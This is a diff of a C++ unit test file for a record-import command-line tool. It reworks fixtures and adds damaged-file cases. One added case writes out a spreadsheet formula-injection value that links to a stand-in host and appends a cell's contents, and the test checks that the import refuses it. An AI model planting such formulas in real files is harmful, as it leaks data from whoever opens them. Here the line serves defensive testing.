@@ -1,9 +1,9 @@
 // Export files read back: through the command-line tool into folders it made, and through
-// the core into real SQLite files (and a PostgreSQL database where one is given).
+// the core into real SQLite files (and a PostgreSQL database where one is given). What an
+// import refuses is in ImportChecksTest.cpp.
 #include "Cli.h"
 #include "Exported.h"
 #include "FixedArchive.h"
-#include "Files.h"
 #include "RecordingSink.h"
 #include "TempDatabase.h"
 #include "store/ExportFile.h"
@@ -27,10 +27,11 @@ using tavlo::test::RecordingSink;
 using tavlo::test::Rows;
 using tavlo::test::runCli;
 using tavlo::test::exported;
+using tavlo::test::storableTest;
+using tavlo::test::withField;
 using tavlo::test::TempDatabase;
 
 namespace {
-
 
 QString saved(const QTemporaryDir& dir, const QByteArray& bytes)
 {
@@ -65,26 +66,6 @@ QList<QByteArray> linesOf(const QByteArray& file)
     return file.split('\n');
 }
 
-// The file without one field (line and column counted from 1).
-QByteArray withoutField(const QByteArray& file, int line, int column)
-{
-    QList<QByteArray> out = linesOf(file);
-    QList<QByteArray> fields = out[line - 1].split('\t');
-    fields.removeAt(column - 1);
-    out[line - 1] = fields.join('\t');
-    return out.join('\n');
-}
-
-// The file with one field (line and column counted from 1) holding value instead.
-QByteArray withField(const QByteArray& file, int line, int column, const QByteArray& value)
-{
-    QList<QByteArray> out = linesOf(file);
-    QList<QByteArray> fields = out[line - 1].split('\t');
-    fields[column - 1] = value;
-    out[line - 1] = fields.join('\t');
-    return out.join('\n');
-}
-
 // The file with the first field of every person line replaced as numbers maps it.
 QByteArray renumbered(const QByteArray& file, const QHash<QByteArray, QByteArray>& numbers)
 {
@@ -97,13 +78,32 @@ QByteArray renumbered(const QByteArray& file, const QHash<QByteArray, QByteArray
     return out.join('\n');
 }
 
-// The fixed archive's export, with the one text the store would refuse (300 characters where
-// it holds 49) shortened; the file as it is is refused (DamagedImport).
-QByteArray fixedArchiveFile()
+// The fixed archive's shapes (gaps in the numbers, persons without one or both score rows,
+// the longest texts, scores of a person who is gone) with only what the program could have
+// stored, exported.
+QByteArray storableArchiveFile()
 {
     TempDatabase source;
-    tavlo::test::makeFixedArchive(source);
-    source.exec(QStringLiteral("UPDATE TESTPERSON SET ADRESS = 'Lang gate 40' WHERE ID = 40"));
+    const std::pair<int, Rows> persons[] = {
+        {1, Rows::All},  {2, Rows::None},     {4, Rows::ScoresOnly}, {5, Rows::GridOnly}, {6, Rows::All},
+        {8, Rows::All},  {9, Rows::All},      {10, Rows::None},      {11, Rows::All},     {40, Rows::All},
+        {41, Rows::All}, {1000, Rows::All},   {1001, Rows::None},
+    };
+    for (const auto& [id, rows] : persons) {
+        TestRecord test = storableTest(id);
+        if (id == 6) { // every score 0, an empty grid
+            for (const MeasureInfo& m : measures())
+                test.scores[m.key] = 0;
+            test.grid = TestDataMF{};
+        }
+        if (id == 9) { // three bytes a character in UTF-8
+            test.person.NAMN = QString(kPersonTextLimit, QChar(0x20AC));
+            test.person.SKOLA = QString(kPersonTextLimit, QChar(0xE6));
+        }
+        tavlo::test::storeFixed(source.db, test, rows);
+    }
+    TestRecord orphan = storableTest(50);
+    EXPECT_EQ(InsertTestData(source.db, orphan), 1);
     return exported(source.db);
 }
 
@@ -112,10 +112,10 @@ void makeLargeArchive(TempDatabase& t)
     Transaction transaction(t.db);
     for (int i = 1; i <= 1500; ++i) {
         const int id = 3 * i + i % 7; // gaps of every width
-        TestRecord test = fixedTest(id);
+        TestRecord test = storableTest(id);
         test.person.NAMN = QStringLiteral("Ærlig Øvrebø %1 – «%2»").arg(i).arg(i % 13);
         if (i % 11 == 0)
-            test.person.TESTDATE = Date{};
+            test.person.OTHER.clear();
         tavlo::test::storeFixed(t.db, test, i % 17 == 0 ? Rows::None : i % 19 == 0 ? Rows::GridOnly : Rows::All);
     }
     ASSERT_TRUE(transaction.commit());
@@ -126,7 +126,7 @@ void makeLargeArchive(TempDatabase& t)
 TEST(ImportCli, MovesAnArchiveByteForByteAndRenumbersIntoAFolderWithTests)
 {
     RecordingSink sink;
-    const QByteArray file = fixedArchiveFile();
+    const QByteArray file = storableArchiveFile();
     QTemporaryDir dir;
     const Folder target(dir, QStringLiteral("ny"));
     const QString path = saved(dir, file);
@@ -210,15 +210,19 @@ TEST(ImportCli, ReportsUsageEmptyHeaderOnlyAndDamagedFiles)
     EXPECT_EQ(run.status, 0) << run.err.toStdString();
     EXPECT_EQ(run.out, QStringLiteral("Filen har ingen tester; ingenting er lagret.\n"));
 
-    TestRecord test = fixedTest(7);
+    TestRecord test = storableTest(7);
     ASSERT_TRUE(SaveTest(empty.db, test, true));
-    QByteArray damaged = exported(empty.db);
-    damaged = withField(damaged, 2, 11, "2017-02-30");
-    run = runCli({QStringLiteral("import"), target.path, saved(dir, damaged)});
-    EXPECT_EQ(run.status, 1);
-    EXPECT_TRUE(run.err.contains(u"Linje 2, felt TESTDAT:")) << run.err.toStdString();
-    EXPECT_TRUE(run.err.contains(u"Ingenting er importert.")) << run.err.toStdString();
-    EXPECT_TRUE(run.out.isEmpty());
+    const QByteArray one = exported(empty.db);
+    // A spreadsheet opening the export would run the name.
+    for (const auto& [damaged, where] :
+         {std::pair{withField(one, 2, 11, "2017-02-30"), u"Linje 2, felt TESTDAT:"},
+          std::pair{withField(one, 2, 2, "=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")"), u"Linje 2, felt NAMN:"}}) {
+        run = runCli({QStringLiteral("import"), target.path, saved(dir, damaged)});
+        EXPECT_EQ(run.status, 1);
+        EXPECT_TRUE(run.err.contains(where)) << run.err.toStdString();
+        EXPECT_TRUE(run.err.contains(u"Ingenting er importert.")) << run.err.toStdString();
+        EXPECT_TRUE(run.out.isEmpty());
+    }
 
     run = runCli({QStringLiteral("import"), target.path, dir.filePath(QStringLiteral("borte.txt"))});
     EXPECT_EQ(run.status, 1);
@@ -226,98 +230,6 @@ TEST(ImportCli, ReportsUsageEmptyHeaderOnlyAndDamagedFiles)
     Database db;
     ASSERT_TRUE(target.connect(db));
     EXPECT_EQ(exported(db), header) << "nothing stored by any of them";
-}
-
-namespace {
-
-// Three tests exported from a store, then imported into one holding a test of its own.
-class DamagedImport : public ::testing::Test {
-protected:
-    void SetUp() override
-    {
-        for (const int id : {3, 5, 8}) {
-            TestRecord test = fixedTest(id);
-            ASSERT_EQ(InsertPersonWithId(source.db, test.person), 1);
-            ASSERT_EQ(InsertTestData(source.db, test), 1);
-            ASSERT_EQ(InsertTestDataMF(source.db, test), 1);
-        }
-        file = exported(source.db);
-        TestRecord own = fixedTest(1);
-        ASSERT_TRUE(SaveTest(target.db, own, true));
-        before = exported(target.db);
-    }
-
-    // The import is refused or fails with a message naming where, and stores nothing.
-    void expectNothingStored(const QByteArray& bytes, const QString& where, const QString& why = {})
-    {
-        const ImportResult result = ImportTests(target.db, bytes);
-        EXPECT_TRUE(result.message.contains(why)) << result.message.toStdString();
-        EXPECT_NE(result.outcome, ImportOutcome::Stored);
-        EXPECT_TRUE(result.message.startsWith(where) || result.message.contains(u' ' + where))
-            << result.message.toStdString();
-        EXPECT_TRUE(result.message.endsWith(u"Ingenting er importert.")) << result.message.toStdString();
-        EXPECT_TRUE(result.numbers.empty());
-        EXPECT_EQ(exported(target.db), before);
-        EXPECT_EQ(NextPersonId(target.db), 1);
-    }
-
-    TempDatabase source;
-    TempDatabase target;
-    QByteArray file;
-    QByteArray before;
-};
-
-} // namespace
-
-TEST_F(DamagedImport, EveryKindOfDamageStoresNothingAndNamesLineAndField)
-{
-    RecordingSink sink;
-    QByteArray shortLine = file;
-    shortLine.replace("\t\r\n", "\r\n"); // every line one tab short, the header first
-    const QByteArray lastLineCut = file.chopped(2);
-    const QByteArray fixedArchive = tavlo::test::files::contentsOf(QStringLiteral(TAVLO_TEST_DATA "/fixed-archive-export.txt"));
-    const struct {
-        const char* what;
-        QByteArray bytes;
-        const char* where;
-        const char* why = "";
-    } cases[] = {
-        {"another header", withField(file, 1, 35, "FBA"), "Linje 1, felt FB_A:"},
-        {"a field too few", withoutField(file, 4, 100), "Linje 4, felt MF_B_16:"},
-        {"a field too many", withField(file, 4, 189, "7\t\r"), "Linje 4, felt MF_B_16:"},
-        {"no tab after the last field", shortLine, "Linje 1, felt MF_B_16:"},
-        {"a day that does not exist", withField(file, 4, 11, "2014-02-30"), "Linje 4, felt TESTDAT:"},
-        {"a date as typed", withField(file, 3, 12, "15.08.2005"), "Linje 3, felt FODELSED:"},
-        {"a score that is no number", withField(file, 4, 19, "7a"), "Linje 4, felt KR_B:"},
-        {"a cell beyond 32 bits", withField(file, 4, 100, "4294967296"), "Linje 4, felt MF2_8:"},
-        {"a sex left empty", withField(file, 2, 14, ""), "Linje 2, felt KON_1P2F:"},
-        {"no person number", withField(file, 4, 1, "0"), "Linje 4, felt NID:"},
-        {"a person number twice", withField(file, 4, 1, "3"), "Linje 4, felt NID:"},
-        {"a text the store refuses", withField(file, 4, 2, QByteArray(50, 'x')), "Linje 4, felt NAMN:", "for lang"},
-        {"the fixed archive's 300-character address", fixedArchive, "Linje 11, felt ADRESS:", "for lang"},
-        {"a byte outside the code page", withField(file, 4, 3, "Gate \x81"), "Linje 4, felt ADRESS:", "0x81"},
-        {"a line break inside a field", withField(file, 4, 16, "to\nlinjer"), "Linje 4, felt OVRIGT:", "linjeskift"},
-        {"a control character", withField(file, 3, 5, "a\x01"), "Linje 3, felt NATION:"},
-        {"a file cut off after its last field", lastLineCut, "Linje 4, felt MF_B_16:"},
-        {"a file cut off in a field", file.chopped(20), "Linje 4, felt MF_B_"},
-        {"an empty file", QByteArray(), "Filen er tom"},
-    };
-    for (const auto& c : cases) {
-        SCOPED_TRACE(c.what);
-        expectNothingStored(c.bytes, QString::fromUtf8(c.where), QString::fromUtf8(c.why));
-    }
-    EXPECT_TRUE(sink.messages.isEmpty()) << "the core shows nothing";
-}
-
-TEST_F(DamagedImport, ALineTheDatabaseRefusesUndoesTheLinesBeforeIt)
-{
-    RecordingSink sink;
-    // Stands for any failure of the store in the middle of a file: the earlier lines were
-    // written already when the last one fails.
-    target.exec(QStringLiteral("CREATE TRIGGER stop BEFORE INSERT ON TESTDATA_TAVLO_MF WHEN NEW.MF_ID = 8 "
-                               "BEGIN SELECT RAISE(ABORT, 'stoppet'); END"));
-    expectNothingStored(file, QStringLiteral("Linje 4 (testperson nummer 8) kan ikke lagres:"));
-    EXPECT_TRUE(sink.messages.isEmpty());
 }
 
 TEST(Import, ANumberOnceGivenOutIsNotKept)
@@ -349,7 +261,7 @@ TEST(ImportPostgres, MovesTheFixedArchiveByteForByte)
     if (connectionTemplate.isEmpty())
         GTEST_SKIP() << "TAVLO_TEST_POSTGRES_TEMPLATE is not set";
     RecordingSink sink;
-    const QByteArray file = fixedArchiveFile();
+    const QByteArray file = storableArchiveFile();
 
     QTemporaryDir dir;
     const QString workgroup = dir.filePath(kWorkgroupFileName);
